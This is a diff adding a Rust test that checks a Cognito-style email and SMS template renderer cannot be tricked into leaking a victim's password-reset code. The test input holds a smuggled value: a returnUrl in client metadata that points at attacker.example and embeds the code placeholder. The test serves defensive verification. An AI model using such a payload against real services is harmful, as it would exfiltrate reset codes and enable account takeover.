@@ -264,6 +264,36 @@ fn hostile_given_name_is_inert_in_the_email() {
 }
 
 #[test]
+fn client_metadata_cannot_smuggle_in_the_code_placeholder() {
+    // A ForgotPassword call for someone else's account, with metadata that would have Cognito
+    // put the victim's code into the caller's link.
+    let mut files = TemplateFiles::builtin();
+    files.insert(
+        "en/ForgotPassword/email.hbs",
+        r#"<p>Code: {{codeParameter}}</p>{{#if clientMetadata.returnUrl}}<a href="{{clientMetadata.returnUrl}}">Back</a>{{/if}}"#,
+    );
+    files.insert(
+        "en/ForgotPassword/sms.hbs",
+        "{{codeParameter}} {{clientMetadata.returnUrl}}",
+    );
+    let messages = TemplateMessages::builder()
+        .files(files)
+        .build()
+        .expect("loads");
+    let request = request_with(
+        "ForgotPassword",
+        r#"{"userAttributes": {"email": "victim@example.com"}, "codeParameter": "{####}",
+            "clientMetadata": {"returnUrl": "https://attacker.example/?c={####}&l={##x##}"}}"#,
+    );
+    let message = messages.render(&request);
+    let email = message.email_message.expect("email");
+    assert_eq!(email.matches("{####}").count(), 1, "{email}");
+    assert!(email.contains("?c&#x3D;{#}&amp;l&#x3D;{#x#}"), "{email}");
+    let sms = message.sms_message.expect("sms");
+    assert_eq!(sms, "{####} https://attacker.example/?c={#}&l={#x#}");
+}
+
+#[test]
 fn subject_and_sms_are_not_html_escaped_but_lose_control_characters() {
     let mut files = TemplateFiles::builtin();
     files.insert(
